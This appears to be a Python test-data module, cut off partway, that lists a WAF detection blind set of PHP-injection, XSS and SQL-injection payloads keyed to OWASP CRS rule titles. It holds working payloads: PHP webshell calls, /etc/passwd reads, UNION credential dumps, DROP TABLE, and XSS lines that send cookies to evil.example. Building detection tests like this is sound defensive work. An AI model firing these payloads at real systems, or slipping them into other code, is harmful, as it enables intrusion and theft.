"""Blind set "eightythird": a regression-suite author's attacks for every SQL injection, XSS and PHP injection
detection title of the CRS 3.3 request rules (942xxx, 941xxx, 933xxx, paranoia levels 1 and 2) and the SQLi,
XSS and PHP titles later CRS releases added, as that traffic reaches this product in production.

The angle: for each detection title, the attack the title names (the canonical one), one payload per
alternative in its family (every keyword, function, tag, wrapper, file or dialect the title covers), then the
variants a good rule must still catch: quoting, casing, whitespace and comment substitutes, concatenation and
the encodings a server decodes (percent-encoding, HTML entities, UTF-7, US-ASCII high-bit bytes). 8 to 12
payloads per title, one kebab-case sub-family per title.

Families and sub-families:
- sqli (44): one per 942xxx title (libinjection, common DB names, sleep/benchmark, conditional sleep, MSSQL
  exec and information gathering, integer overflow, conditional, charset switch and MSSQL DoS, MATCH/MERGE/
  EXECUTE IMMEDIATE, UNION SELECT FROM, pg_sleep/WAITFOR/SHUTDOWN, MongoDB operators, stored procedures, UDF and
  data manipulation, concatenated and SQL-LFI, MySQL inline comments, the PL2 titles: injection testing,
  operators, tautologies, function names, three authentication bypasses, comment/space obfuscation, two
  chained-injection titles, comments and ch(a)r, two classic probings, ALTER/UNION, HAVING/EXISTS/ORDER BY,
  OR/AND comparisons, AND comparisons, the long function list, MSSQL/Oracle procedures, data statements,
  special-character anomaly, comment sequences, hex encoding, ticks and backticks) and the later titles
  (JSON-based SQLi, MySQL scientific notation, authentication bypass by split query, authentication bypass 4/4).
- xss (32): one per 941xxx title (libinjection, script tag, event handler, attribute vector, javascript: URI,
  NoScript HTML and attribute injection, node-validator keywords, each IE XSS filter: style/@import, vmlframe,
  obfuscated javascript:, obfuscated vbscript:, embed, import implementation, meta http-equiv, meta charset,
  link href, base href, applet, object, quote-then-location/name, quote-then-property assignment; US-ASCII
  malformed encoding, UTF-7, JSFuck/Hieroglyphy, JavaScript globals, libinjection on path and Referer,
  disallowed attributes, HTML tag handler, AngularJS template injection) and the later titles (JavaScript method,
  JavaScript function called without parentheses).
- php (13): one per 933xxx title (open tag, script upload, configuration directive, variables, I/O stream,
  wrapper scheme, high-risk function name, high-risk function call, serialized object, variable function call,
  string/array/concatenated callee, medium-risk function name) and the later "PHP data scheme" title. The later
  "wrapper scheme" and "variable function call (string/array/concat callees)" titles repeat 933200 and 933210
  and share their sub-families; the later AngularJS title repeats 941380.

Placements (the six ways this traffic reaches the product), each title's payloads spread over all six, with the
headers a current browser sends (User-Agent, Accept, Accept-Language, Accept-Encoding, a Referer on
https://app.example.com, Sec-Fetch-*, a Cookie with a random session token and a consent cookie):
query (GET /api/users?q=...&page=...&per_page=..., parameter order varying, form-encoded as a browser does);
form (POST /admin/users/search, csrf_token and q); json (POST /api/users with the payload in one field, or a
Slack event_callback to /slack/events whose event.text carries the payload after a short lead-in, with a made-up
signature an attacker would send); path (GET /api/users/<payload> or /api/<payload>, percent-encoded); header
(the whole User-Agent mostly, or the Referer, or a cookie value); and about one payload in ten the same as
query/form/json but for PATCH /api/users/42 (JSON) or POST /me/settings (form). A payload with a line break
meant for a header goes into the query instead. US-ASCII malformed payloads are percent-encoded byte for byte
(latin-1) in the query, form and path, as an attacker sends them.

The benign half uses the same six places with innocent values carrying the same words: Slack messages and bios
(developers talking about SQL, HTML and PHP; people talking about unions, scripts, sleep and benchmarks),
searches and admin searches (names such as O'Brien, titles, SQL-ish phrases), profile fields, settings, paths
with usernames and slugs, and real browser and app User-Agents, Referers and cookies.

Authorship and independence: written from general knowledge of each attack family and from the detection titles
alone, without reading the WAF's rules or engine, any ruleset's rule files or regression tests, any other blind
set or any public payload list. Measured once, on unchanged code, through the real stack. Deterministic (one
seeded random source for tokens and ids; no clock).
"""

from __future__ import annotations

import json
import random
import string
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .records import b64url, print_records

NAME = "eightythird"

# (category, sub-family, title id(s), payloads)
Title = tuple[str, str, str, list[str]]

PHP: list[Title] = [
    ("php", "php-open-tag", "933100", [
        "<?php system('id'); ?>",
        "<?PHP echo shell_exec($_GET['c']);",
        "<?=`id`?>",
        "<? passthru(\"ls -la\"); ?>",
        "<?php\n@eval($_POST['x']);\n?>",
        "<?php/**/phpinfo();",
        "<script language=\"php\">system('whoami');</script>",
        "<script language=php>echo 1;</script>",
        "<?pHp\tsystem('id');",
        "GIF89a<?php echo file_get_contents('/etc/passwd'); ?>",
        "&lt;?php system('id'); ?&gt;",
        "%3C%3Fphp system('id'); %3F%3E",
    ]),
    ("php", "php-script-upload", "933110", [
        "shell.php",
        "avatar.jpg.php",
        "cmd.phtml",
        "backdoor.php5",
        "x.PHP",
        "wso.php7",
        "c99.php.",
        "image.php%00.png",
        "upload.phar",
        "filename=\"shell.php\"",
        "Content-Disposition: form-data; name=\"avatar\"; filename=\"x.phtml\"",
    ]),
    ("php", "php-config-directive", "933120", [
        "allow_url_include=On",
        "auto_prepend_file=php://input",
        "-d allow_url_include=1 -d auto_prepend_file=php://input",
        "auto_append_file=/tmp/sess_abc",
        "disable_functions=",
        "open_basedir = /",
        "allow_url_fopen=1",
        "safe_mode=Off",
        "register_globals=on",
        "ALLOW_URL_INCLUDE=ON",
        "suhosin.executor.disable_eval=0",
        "ini_set('display_errors','1');",
    ]),
    ("php", "php-variables", "933130", [
        "$_GET['cmd']",
        "$_POST[\"x\"]",
        "$_REQUEST[c]",
        "$_COOKIE['sid']",
        "$_SERVER['HTTP_X_CMD']",
        "$_FILES['f']['tmp_name']",
        "$_ENV",
        "$GLOBALS['config']",
        "$HTTP_RAW_POST_DATA",
        "$_SESSION['role']='admin'",
        "$http_response_header",
        "$HTTP_GET_VARS['a']",
    ]),
    ("php", "php-io-stream", "933140", [
        "php://input",
        "php://stdin",
        "php://memory",
        "php://temp",
        "php://fd/0",
        "php://output",
        "php://stderr",
        "PHP://Input",
        "php://filter/read=string.toupper/resource=index.php",
        "pHp://filter/convert.base64-encode/resource=config",
        "php://fd/3",
    ]),
    ("php", "php-wrapper-scheme", "933200", [
        "zlib://shell.gz",
        "glob:///var/www/*.php",
        "phar://uploads/avatar.jpg/x.php",
        "ssh2.shell://user:pw@evil.example:22/xterm",
        "ssh2.exec://evil.example/id",
        "rar://uploads/a.rar#shell.php",
        "ogg://evil.example/a.ogg",
        "expect://id",
        "zip://uploads/a.zip#cmd.php",
        "compress.zlib:///etc/passwd",
        "compress.bzip2://config.php.bz2",
        "PHAR:///tmp/phpX.jpg",
    ]),
    ("php", "php-high-risk-function-name", "933150", [
        "passthru",
        "shell_exec",
        "PROC_OPEN",
        "pcntl_exec",
        "popen",
        "call_user_func_array",
        "base64_decode",
        "gzinflate",
        "str_rot13",
        "create_function",
        "file_put_contents",
        "move_uploaded_file",
    ]),
    ("php", "php-high-risk-function-call", "933160", [
        "system('id')",
        "exec (\"whoami\")",
        "passthru/**/('ls -la')",
        "shell_exec(\"cat /etc/passwd\")",
        "eval($_POST[0])",
        "assert('phpinfo()')",
        "popen('id', 'r')",
        "proc_open('sh', $d, $p)",
        "SYSTEM('id')",
        "exec\t('uname -a')",
        "phpinfo()",
        "system#x\n('id')",
    ]),
    ("php", "php-serialized-object", "933170", [
        "O:8:\"stdClass\":0:{}",
        "O:4:\"User\":2:{s:4:\"name\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}",
        "O:+4:\"User\":0:{}",
        "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
        "a:1:{i:0;O:6:\"Logger\":1:{s:4:\"file\";s:9:\"shell.php\";}}",
        "o:6:\"Logger\":0:{}",
        "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":1:{s:9:\"%00*%00events\";O:1:\"x\":0:{}}",
        "O:9:\"Exception\":1:{s:7:\"message\";s:2:\"hi\";}",
        "x|O:9:\"UserPrefs\":1:{s:5:\"theme\";s:4:\"dark\";}",
        "O%3A8%3A%22stdClass%22%3A0%3A%7B%7D",
        "a:2:{i:0;s:3:\"foo\";i:1;O:3:\"Foo\":0:{}}",
    ]),
    ("php", "php-variable-function-call", "933180", [
        "$f('id')",
        "$_GET['a']($_GET['b'])",
        "$a=$_POST['f'];$a('ls');",
        "${'_GET'}['x']()",
        "$x = 'system'; $x (\"id\");",
        "$func/**/('whoami')",
        "$$v('id')",
        "$a[0]('id')",
        "@$_COOKIE['c']($_COOKIE['d']);",
        "$f\t(\"uname -a\")",
        "$obj->$m('id')",
    ]),
    ("php", "php-callee-expression", "933210", [
        "(\"system\")(\"id\")",
        "('sys'.'tem')('id')",
        "\"\\x73ystem\"('id')",
        "(strrev('metsys'))('id')",
        "['system'][0]('id')",
        "('ex'.'ec')(\"whoami\")",
        "(chr(115).chr(121).'stem')('id')",
        "(base64_decode('c3lzdGVt'))('id')",
        "(str_rot13('flfgrz'))('ls')",
        "[$a,'system'][1]('id')",
        "(\"\\163\\171\\163\\164\\145\\155\")(\"id\")",
        "( 'pass' . 'thru' ) ( 'ls' )",
    ]),
    ("php", "php-medium-risk-function-name", "933151", [
        "readfile('/etc/passwd')",
        "scandir('/var/www')",
        "file('/etc/passwd')",
        "highlight_file('config.php')",
        "show_source('index.php')",
        "curl_exec($ch)",
        "posix_getpwuid(0)",
        "symlink('/etc/passwd','x.txt')",
        "chmod('shell.php',0777)",
        "unlink('index.php')",
        "parse_ini_file",
        "ini_get_all",
    ]),
    ("php", "php-data-scheme", "later", [
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
        "data:text/plain,<?php phpinfo();?>",
        "data://text/plain,<?php system($_GET['c']);?>",
        "DATA://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
        "data:;base64,PD9waHAgZWNobyAxOz8+",
        "data://application/x-httpd-php;base64,PD9waHAgc3lzdGVtKCdscycpOz8+",
        "data:text/plain;charset=utf-8;base64,PD89YGlkYD8+",
        "data:,<?=`id`?>",
        "data:text/plain,%3C%3Fphp%20system('id')%3B%3F%3E",
        "Data://Text/Plain,<?php echo 1;",
    ]),
]

XSS: list[Title] = [
    ("xss", "xss-libinjection", "941100", [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "\"><script>alert(document.cookie)</script>",
        "'><img src=x onerror=prompt(1)>",
        "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<svg/onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
    ]),
    ("xss", "xss-script-tag", "941110", [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script src=\"https://evil.example/a.js\"></script>",
        "<script\n>alert(document.domain)</script>",
        "<script/x>alert(1)</script>",
        "<ScRiPt >prompt(1)</ScRiPt>",
        "<script type=\"text/javascript\">new Image().src='//evil.example/?c='+document.cookie</script>",
        "<script\t>confirm(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "\"><script>alert(1)</script>",
    ]),
    ("xss", "xss-event-handler", "941120", [
        "<img src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<svg onload=alert(1)>",
        "<div onmouseover=\"alert(1)\">hover</div>",
        "<input onfocus=alert(1) autofocus>",
        "<video><source onerror=\"alert(1)\">",
        "<marquee onstart=alert(1)>",
        "<details ontoggle=alert(1) open>",
        "<img src=x ONERROR=alert(1)>",
        "<img src=x onerror\n=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "<a onpointerenter=alert(1)>x</a>",
    ]),
    ("xss", "xss-attribute-vector", "941130", [
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
        "<x style=\"width:expression(alert(1))\">",
        "<form action=javascript:alert(1)><input type=submit>",
        "<button formaction=javascript:alert(1)>go</button>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<div style=\"background:url(javascript:alert(1))\">",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<html xmlns:x=\"http://www.w3.org/1999/xhtml\"><x:script>alert(1)</x:script>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">",
        "<x STYLE=\"behavior:url(x.htc)\">",
    ]),
    ("xss", "xss-javascript-uri", "941140", [
        "javascript:alert(1)",
        "<a href=\"javascript:alert(1)\">x</a>",
        "JaVaScRiPt:alert(document.cookie)",
        "java\tscript:alert(1)",
        "javascript&#58;alert(1)",
        "jav&#x61;script:alert(1)",
        " javascript:alert(1)",
        "vbscript:msgbox(1)",
        "<img src=\"javascript:alert(1)\">",
        "url(javascript:alert(1))",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "javascript://%0aalert(1)",
    ]),
    ("xss", "xss-noscript-html-injection", "941160", [
        "<iframe src=//evil.example></iframe>",
        "<object data=//evil.example/x.swf>",
        "<embed src=//evil.example/x.swf>",
        "<applet code=Exploit.class>",
        "<meta http-equiv=\"refresh\" content=\"0;url=//evil.example\">",
        "<base href=//evil.example/>",
        "<form action=//evil.example/collect><input name=q>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<style>body{background:url(//evil.example/p)}</style>",
        "<isindex action=javascript:alert(1) type=image>",
        "<frameset onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
    ]),
    ("xss", "xss-noscript-attribute-injection", "941170", [
        "\" style=\"x:expression(alert(1))",
        "' onfocus='alert(1)' autofocus='",
        "\"><a href=javascript:alert(1)>x</a>",
        "x\" onerror=\"alert(1)",
        "\" formaction=\"javascript:alert(1)",
        "' style='background-image:url(javascript:alert(1))",
        "\" src=\"data:text/html,<script>alert(1)</script>",
        "\"autofocus onfocus=alert(1)//",
        "' href='vbscript:msgbox(1)",
        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
        "<sVg/oNloAd=alert()//>",
        "\" onload=\"alert(1)",
    ]),
    ("xss", "xss-node-validator-keywords", "941180", [
        "document.cookie",
        "x=document.cookie",
        "document.write('<img src=//evil.example/'+document.cookie+'>')",
        "this.parentNode.innerHTML='owned'",
        "window.location='//evil.example'",
        "-moz-binding:url(//evil.example/x.xml#x)",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<script>alert(1)</script>]]>",
        "DOCUMENT.COOKIE",
        "el.innerHTML=location.hash",
        "top.window.location=\"//evil.example\"",
        "--><script>alert(1)</script>",
    ]),
    ("xss", "xss-ie-style-import", "941190", [
        "<style>@import 'http://evil.example/x.css';</style>",
        "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>",
        "<style>body{x:expression(alert(1))}</style>",
        "<style type=\"text/css\">li{list-style-image:url(\"javascript:alert(1)\")}</style>",
        "<style>@\\69mport 'http://evil.example/'</style>",
        "<style>a{background:url(&#x6A;avascript:alert(1))}</style>",
        "<STYLE>BODY{-moz-binding:url(\"http://evil.example/x.xml#xss\")}</STYLE>",
        "<style>*{width:e\\xpression(alert(1))}</style>",
        "<style\n>@import url(//evil.example/a.css);</style>",
        "<style>div{behavior:url(x.htc)}</style>",
    ]),
    ("xss", "xss-ie-vmlframe", "941200", [
        "<v:vmlframe src=\"//evil.example/x.vml#xss\">",
        "<x:vmlframe src=foo.vml#x>",
        "<v:vmlframe  src = \"javascript:alert(1)\"></v:vmlframe>",
        "<html xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:vmlframe src=//evil.example/a.vml>",
        "<V:VMLFRAME SRC=\"x.vml#y\">",
        "<ns:vmlframe/src=\"//evil.example/v\">",
        "<v:vmlframe\tsrc=x.vml>",
        "<a:vmlframe+src=//evil.example/x>",
    ]),
    ("xss", "xss-ie-javascript-obfuscated", "941210", [
        "j&#x61;vascript:alert(1)",
        "jav&#97;script:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)",
        "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
        "j&Tab;a&Tab;v&Tab;a&Tab;s&Tab;c&Tab;r&Tab;i&Tab;p&Tab;t:alert(1)",
        "java&NewLine;script:alert(1)",
        "jav&#x09;ascript:alert(1)",
        "java&#0000010;script:alert(1)",
        "j\ta\tv\ta\ts\tc\tr\ti\tp\tt:alert(1)",
        "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
        "JaV&#x41;sCrIpT:alert(1)",
    ]),
    ("xss", "xss-ie-vbscript-obfuscated", "941220", [
        "vbscript:msgbox(1)",
        "v&#x62;script:msgbox(1)",
        "&#118;&#98;&#115;&#99;&#114;&#105;&#112;&#116;:MsgBox(1)",
        "vb&Tab;script:msgbox(1)",
        "VbScRiPt:MsgBox(\"x\")",
        "vbs&#x09;cript:execute(\"msgbox 1\")",
        "v\tb\ts\tc\tr\ti\tp\tt:msgbox(1)",
        "<a href=\"vbscript:msgbox(document.cookie)\">x</a>",
        "vb&NewLine;script:msgbox(1)",
        "&#x76;bscript:msgbox(1)",
    ]),
    ("xss", "xss-ie-embed", "941230", [
        "<embed src=//evil.example/x.swf>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<embed type=\"application/x-shockwave-flash\" src=x.swf allowscriptaccess=always>",
        "<embed/src=//evil.example/a>",
        "<embed\tsrc=javascript:alert(1)>",
        "<EmBeD code=x.swf>",
        "<embed+type=image/svg+xml src=//evil.example/x.svg>",
        "<embed src=\"javascript:alert(1)\"></embed>",
        "<embed width=1 src=//evil.example/x.pdf>",
    ]),
    ("xss", "xss-ie-import-implementation", "941240", [
        "<?import namespace=\"t\" implementation=\"#default#time2\">",
        "<import implementation=\"//evil.example/x.htc\">",
        "<?IMPORT NAMESPACE=x IMPLEMENTATION=x.htc>",
        "<?import namespace=\"v\" implementation=\"#default#VML\" ?>",
        "<import\timplementation=//evil.example/a.htc>",
        "<?import/implementation=#default#time2>",
        "<?import namespace=\"t\" implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"x\">",
        "<import implementation = x.htc>",
    ]),
    ("xss", "xss-ie-meta-http-equiv", "941250", [
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<META HTTP-EQUIV=\"Set-Cookie\" CONTENT=\"session=attacker\">",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<meta http-equiv=\"content-type\" content=\"text/html;charset=utf-7\">",
        "<meta  http-equiv = 'Refresh' content='0; URL=data:text/html,<script>alert(1)</script>'>",
        "<meta/http-equiv=\"refresh\"/content=\"0;url=//evil.example\">",
        "<meta http-equiv=\"&#x72;efresh\" content=\"0;url=//evil.example\">",
        "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\">",
        "<meta http-equiv=`refresh` content=0>",
        "<MeTa HtTp-EqUiV=\"set-cookie\" content=\"x=y\">",
    ]),
    ("xss", "xss-ie-meta-charset", "941260", [
        "<meta charset=\"UTF-7\">",
        "<META CHARSET=x-imap4-modified-utf7>",
        "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "<meta content=\"text/html\" charset=\"iso-2022-jp\">",
        "<meta  charset = 'utf-16'>",
        "<meta/charset=utf-7>",
        "<meta\tcharset=us-ascii>",
        "<meta name=x charset=UTF-7>",
    ]),
    ("xss", "xss-ie-link-href", "941270", [
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<LINK REL=\"import\" HREF=\"//evil.example/x.html\">",
        "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
        "<link href=data:text/css,*{x:expression(alert(1))} rel=stylesheet>",
        "<link/rel=import/href=//evil.example>",
        "<link\thref=//evil.example/a.css>",
        "<link rel=\"preload\" href=\"//evil.example/x.js\" as=\"script\">",
        "<LiNk HrEf = \"//evil.example\">",
        "<link rel=icon href=//evil.example/x.ico onload=alert(1)>",
    ]),
    ("xss", "xss-ie-base-href", "941280", [
        "<base href=//evil.example/>",
        "<BASE HREF=\"javascript:alert(1);//\">",
        "<base href=\"https://evil.example/\" target=_blank>",
        "<base/href=//evil.example>",
        "<base\thref=//evil.example/>",
        "<BaSe HrEf = 'http://evil.example/'>",
        "<base target=_self href=//evil.example/>",
        "<base href=data:text/html,x>",
    ]),
    ("xss", "xss-ie-applet", "941290", [
        "<applet code=Exploit.class>",
        "<APPLET CODE=\"x.class\" CODEBASE=\"//evil.example/\"></APPLET>",
        "<applet archive=//evil.example/x.jar code=A>",
        "<applet/code=x>",
        "<applet\tcode=x.class>",
        "<applet>",
        "<ApPlEt code=\"javascript:alert(1)\">",
        "<applet+code=a>",
    ]),
    ("xss", "xss-ie-object", "941300", [
        "<object data=//evil.example/x.swf>",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"//evil.example/x.sct\"></OBJECT>",
        "<object classid=\"clsid:333C7BC4-460F-11D0-BC04-0080C7055A83\">",
        "<object codetype=application/x-shockwave-flash data=x.swf>",
        "<object code=x.class>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
        "<object/data=javascript:alert(1)>",
        "<object\ttype=image/svg+xml data=//evil.example/x.svg>",
        "<ObJeCt DaTa = \"//evil.example/x.html\">",
        "<object width=1 type=text/html data=javascript:alert(1)>",
    ]),
    ("xss", "xss-us-ascii-malformed", "941310", [
        "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
        "\u00bcimg src=x onerror=alert(1)\u00be",
        "\u00bcsvg onload=alert(1)\u00be",
        "\u00bcscript src=//evil.example/x.js\u00be\u00bc/script\u00be",
        "\"\u00be\u00bcscript\u00bealert(document.cookie)\u00bc/script\u00be",
        "\u00bciframe src=javascript:alert(1)\u00be",
        "\u00bcSCRIPT\u00beprompt(1)\u00bc/SCRIPT\u00be",
        "\u00bcbody onload=alert(1)\u00be",
    ]),
    ("xss", "xss-utf7", "941350", [
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-img src+AD0-x onerror+AD0-alert(1)+AD4-",
        "+ADw-svg onload+AD0-alert(1)+AD4-",
        "+adw-script+ad4-alert(1)+adw-/script+ad4-",
        "+ACI-+AD4-+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-iframe src+AD0-javascript:alert(1)+AD4-",
        "<meta charset=\"UTF-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "+ADw-/title+AD4-+ADw-script+AD4-alert(document.cookie)+ADw-/script+AD4-",
        "+ADwAcwBjAHIAaQBwAHQAPg-alert(1)+ADwALwBzAGMAcgBpAHAAdAA+-",
    ]),
    ("xss", "xss-jsfuck-hieroglyphy", "941360", [
        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
        "(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]",
        "(!![]+[])[+[]]+(!![]+[])[+!+[]]",
        "[+!+[]]+[+[]]",
        "(+[![]]+[])[+!+[]]",
        "([][[]]+[])[+!+[]]",
        "!+[]+!+[]+!+[]",
        "$=~[];$={___:++$,$$$$:(![]+\"\")[$],__$:++$};",
        "[][\"filter\"][\"constructor\"](\"alert(1)\")()",
        "(+{}+[])[+!![]]",
    ]),
    ("xss", "xss-js-global-variable", "941370", [
        "window[\"alert\"](1)",
        "self['ale'+'rt'](document.domain)",
        "this[\"document\"][\"cookie\"]",
        "top[/al/.source+/ert/.source](1)",
        "window [ \"al\" + \"ert\" ] (1)",
        "parent['location']='//evil.example'",
        "document['cookie']",
        "window/**/[\"eval\"](\"alert(1)\")",
        "self[`alert`](1)",
        "top['\\x61lert'](1)",
        "globalThis['eval']('alert(1)')",
        "frames[0]['alert'](1)",
    ]),
    ("xss", "xss-libinjection-path-referer", "941101", [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "\"><script>alert(document.domain)</script>",
        "'><body onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<input autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>",
        "https://app.example.com/\"><script>alert(1)</script>",
    ]),
    ("xss", "xss-disallowed-attributes", "941150", [
        "<a href=//evil.example>login</a>",
        "<img src=\"//evil.example/pixel.gif\">",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">",
        "<img dynsrc=\"javascript:alert(1)\">",
        "<img lowsrc=\"javascript:alert(1)\">",
        "<table background=\"javascript:alert(1)\">",
        "<div datasrc=#x datafld=a dataformatas=html>",
        "<p style=behavior:url(#default#time2)>",
        "<iframe src = \"//evil.example\">",
        "<A HREF=\"//evil.example\">x</A>",
    ]),
    ("xss", "xss-html-tag-handler", "941320", [
        "<form action=//evil.example/login method=post><input name=user><input type=submit>",
        "<h1>Your session expired, sign in again</h1>",
        "<marquee>hacked</marquee>",
        "<textarea autofocus>",
        "<button>click me</button>",
        "<table><tr><td>x</td></tr></table>",
        "<div id=x>owned</div>",
        "<select><option>a</option></select>",
        "<img src=//evil.example/logo.png>",
        "<u>x</u>",
        "<center><font color=red size=7>SALE</font></center>",
        "<span style=display:none>",
    ]),
    ("xss", "xss-ie-quote-location-name", "941330", [
        "\";location='//evil.example/?c='+document.cookie;//",
        "';location.href=\"javascript:alert(1)\";//",
        "\"-(location='//evil.example')-\"",
        "'+(name='x')+'",
        "\";onerror=alert;throw 1;//",
        "'; valueOf=alert;//",
        "\";\\u006Cocation='//evil.example';//",
        "\" in window&&(location='javascript:alert(1)')//",
        "\";window.name='x';//",
        "'||(\\u006e\\u0061\\u006d\\u0065='alert(1)')||'",
    ]),
    ("xss", "xss-ie-quote-property-assign", "941340", [
        "\";document.location='//evil.example';//",
        "';window.onerror=alert;//",
        "\"+document.title='x'+\"",
        "');top.location.href='//evil.example';//",
        "\"-(document.cookie='a=b')-\"",
        "';this.src='//evil.example/?'+document.cookie;//",
        "\";x.innerHTML='<img src=x onerror=alert(1)>';//",
        "'}); document.forms[0].action='//evil.example';//",
        "\" in self&&(self.location.hash='x')//",
    ]),
    ("xss", "xss-angular-csti", "941380", [
        "{{constructor.constructor('alert(1)')()}}",
        "{{$on.constructor('alert(1)')()}}",
        "{{7*7}}",
        "{{'a'.constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
        "{{$eval.constructor('alert(1)')()}}",
        "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}",
        "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
        "[\"a\",\"alert(1)\"].sort(toString.constructor);}}",
        "<div ng-app ng-csp>{{$eval.constructor('alert(1)')()}}</div>",
        "{{[].pop.constructor('alert(1)')()}}",
        "{{ constructor.constructor(\"alert(1)\")() }}",
        "<x ng-focus=$event.view.alert(1) autofocus tabindex=0>",
        "{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,alert(1),a')}}",
    ]),
    ("xss", "xss-js-method", "later", [
        "eval('alert(1)')",
        "setTimeout(\"alert(1)\",0)",
        "setInterval('alert(document.domain)',1000)",
        "new Function('alert(1)')()",
        "alert(document.domain)",
        "prompt(1)",
        "confirm (1)",
        "atob('YWxlcnQoMSk=')",
        "String.fromCharCode(97,108,101,114,116,40,49,41)",
        "EVAL/**/('alert(1)')",
        "Function(\"ale\"+\"rt(1)\")()",
        "window.eval(atob(\"YWxlcnQoMSk=\"))",
    ]),
    ("xss", "xss-no-parentheses", "later", [
        "alert`1`",
        "onerror=alert;throw 1",
        "setTimeout`alert\\x281\\x29`",
        "eval.call`${'alert\\x281\\x29'}`",
        "location='javascript:alert%281%29'",
        "[1].find(alert)",
        "<img src=x onerror=alert`1`>",
        "throw onerror=eval,'=alert\\x281\\x29'",
        "prompt`${document.domain}`",
        "top['al'+'ert']`1`",
        "{onerror=alert}throw 1337",
        "<svg onload=location=`javas`+`cript:ale`+`rt%2`+`81%2`+`9`>",
    ]),
]

SQLI: list[Title] = [
    ("sqli", "sqli-libinjection", "942100", [
        "1' OR '1'='1",
        "1 UNION SELECT username, password FROM users--",
        "' OR 1=1-- -",
        "admin'--",
        "1; DROP TABLE users--",
        "1' AND 1=2 UNION SELECT NULL,@@version-- ",
        "\" OR \"\"=\"",
        "1) OR (1=1",
        "-1 OR 2>1",
        "1' ORDER BY 3--+",
        "' uNiOn/**/sElEcT 1,2,3#",
        "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x "
        "FROM information_schema.tables GROUP BY x)a)",
    ]),
    ("sqli", "sqli-common-db-names", "942140", [
        "' UNION SELECT table_name,2 FROM information_schema.tables--",
        "1 union select user,authentication_string from mysql.user",
        "'; select name from master..sysdatabases--",
        "1 AND 1=(SELECT COUNT(*) FROM msdb.dbo.sysjobs)",
        "' union select usename,passwd from pg_shadow--",
        "1 union select tablename from pg_catalog.pg_tables",
        "'; use tempdb--",
        "1 union select * from northwind.dbo.customers",
        "1 UNION SELECT column_name FROM INFORMATION_SCHEMA.COLUMNS",
        "1 union select sql from sqlite_master--",
        "' and exists(select * from information_schema . schemata)--",
    ]),
    ("sqli", "sqli-blind-sleep-benchmark", "942160", [
        "sleep(5)",
        "1 AND SLEEP(5)",
        "' OR sleep(10)#",
